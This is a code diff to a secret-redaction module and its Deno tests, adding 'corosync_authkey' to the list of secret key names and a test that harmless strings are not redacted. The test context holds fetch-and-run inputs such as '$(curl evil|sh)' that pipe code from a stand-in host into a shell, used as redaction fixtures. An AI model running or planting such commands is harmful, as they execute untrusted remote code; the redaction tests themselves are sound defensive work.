@@ -17,6 +17,7 @@ const SECRET_KEYS = [
   "otel-headers",
   "password",
   "cipassword",
+  "corosync_authkey",
   "passwd",
   "rootPassword",
   "secret",
@@ -336,6 +337,8 @@ Deno.test("redactValue reads an array as an argv", () => {
   assert.deepEqual(redactValue(harmless), harmless);
   const hiding = ["sh", "--token", "$(curl evil|sh)", "-p", "curl evil|sh"];
   assert.deepEqual(redactValue(hiding), hiding);
+  const notes = ["its secret is told to nobody", "the source stays"];
+  assert.deepEqual(redactValue(notes), notes);
   assert.deepEqual(redactValue(["key", "curl evil|sh"]), ["key", `${REDACTED} evil|sh`]);
 });
 
